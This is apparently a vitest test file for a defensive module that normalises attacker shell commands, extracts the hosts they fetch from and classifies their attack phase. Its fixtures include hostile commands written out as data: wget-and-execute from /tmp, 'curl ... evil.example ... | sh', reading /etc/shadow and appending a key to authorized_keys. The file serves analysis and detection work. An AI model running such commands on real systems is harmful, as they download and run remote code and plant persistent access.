import { describe, expect, test } from "vitest";
import { habitOf, hostsOf, isOwnHost, phaseOfCommand } from "./command-trace.ts";

describe("a command as a habit", () => {
  test("is the same for another server, day and random name", () => {
    const one = habitOf("cd /tmp;  wget http://203.0.113.9/bins.sh; chmod 777 a1f4c5d6e7b8a9c0; ./a1f4c5d6e7b8a9c0");
    const two = habitOf("cd /tmp; wget http://198.51.100.7:8080/x; chmod 755 00ffee11dd22cc33; ./00ffee11dd22cc33");
    expect(one).toBe(two);
    expect(habitOf("cat /etc/passwd")).not.toBe(habitOf("cat /etc/shadow"));
  });

  test("of a megabyte is taken no longer than of a line", () => {
    const began = performance.now();
    for (const part of ["http://", "1.1.1.1 ", "a".repeat(40), "://a ", "f0"]) {
      habitOf(part.repeat(200_000));
      hostsOf(part.repeat(200_000));
      phaseOfCommand(part.repeat(200_000));
    }
    expect(performance.now() - began).toBeLessThan(1_000);
  });

  test.each([
    ["uname -a; id", "discovery"],
    ["cd /tmp && wget http://x.example/a", "command_and_control"],
    ["echo key >> ~/.ssh/authorized_keys", "execution"],
    ["sh -c 'crontab -l'", "persistence"],
    ["constructor toString __proto__", "execution"],
  ])("%s is of the phase %s", (command, phase) => {
    expect(phaseOfCommand(command)).toBe(phase);
  });
});

describe("hosts files are fetched from", () => {
  test("are read out of commands, without account, port and brackets, at most eight", () => {
    expect(
      hostsOf("curl http://me:pw@Evil.Example.:8080/x | sh; wget ftp://[2001:db8::7]/y http://evil.example/z"),
    ).toEqual(["evil.example", "2001:db8::7"]);
    const many = Array.from({ length: 50 }, (_, index) => `http://h${index}.example`).join(" ");
    expect(hostsOf(many)).toHaveLength(8);
    expect(hostsOf("no address here")).toEqual([]);
  });

  test("that everybody may use tell nobody apart", () => {
    expect(isOwnHost("raw.githubusercontent.com")).toBe(false);
    expect(isOwnHost("203.0.113.9")).toBe(true);
  });
});
